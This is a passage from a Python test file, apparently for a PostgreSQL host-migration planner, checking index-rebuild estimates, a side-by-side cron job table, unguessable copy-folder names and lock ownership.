    assert rebuilt.expected_seconds is not None
    assert all(value in rebuilt.reason for value in ("1 object", " shop", "4.8 MiB"))
    assert rebuilt.call.endswith(" 15 1805 shop 1 default")
    assert '"reindex index INDEX"' in rebuilt.native[0]
    assert warned(made)["collation"] is Status.WARNING
    assert step_ids.REBUILD_INDEXES not in known(plan().steps)


def test_the_jobs_of_both_hosts_stand_side_by_side() -> None:
    both, here = Scheduled("/etc/cron.d/a", "root", "0 1 * * * root vacuumdb -a"), "0 3 * * * pg_dump `shop`"
    mine = Scheduled("/var/spool/cron/postgres", "postgres", here)
    other = Scheduled("/etc/cron.d/b", "root", both.line)
    old_facts = old(cluster(running=True), host_environment=host_environment(schedule=(both, mine)))
    made = plan(old_facts=old_facts, new_facts=new(host_environment=host_environment(schedule=(other,))))
    jobs = step(made, Hook.MOVE_CRON_JOBS)
    assert [line.split("  ")[:1] + line.split()[1:3] for line in jobs.table.splitlines()] == [
        ["old", "new", "user"],
        ["/etc/cron.d/a", "/etc/cron.d/b", "root"],
        ["/var/spool/cron/postgres", "-", "postgres"],
    ]
    assert jobs.number < step(made, step_ids.REPOINT_APPLICATIONS).number
    assert jobs.table in runbook(made)
    assert Hook.MOVE_CRON_JOBS not in known(plan({"running": True}).steps)


def test_what_a_move_makes_on_servers_has_names_that_nobody_can_guess() -> None:
    """Nor know from an earlier plan of the same move."""
    both = old(), new()
    estimated = estimate(spec_of(move(), both[0], []))
    names = [
        dict(make_plan(move(), profile("old"), profile("new"), *both, (), (), estimated, seed=seed).settings)[
            "copy_folder"
        ]
        for seed in ("one", "one", "another", "")
    ]
    assert len(set(names)) == 4


def test_the_lock_on_old_is_its_clusters_owners_whoever_the_profile_names() -> None:
    """Each user sees locks of their own alone, and two workstations may name different ones."""
    facts = old(cluster(owner="pgowner"))
    estimated = estimate(spec_of(move(), facts, []))
    made = make_plan(move(), profile("old"), profile("new"), facts, new(), (), (), estimated, seed="0123")
    assert [each.database_user for each in made.logins] == ["pgowner", "postgres"]
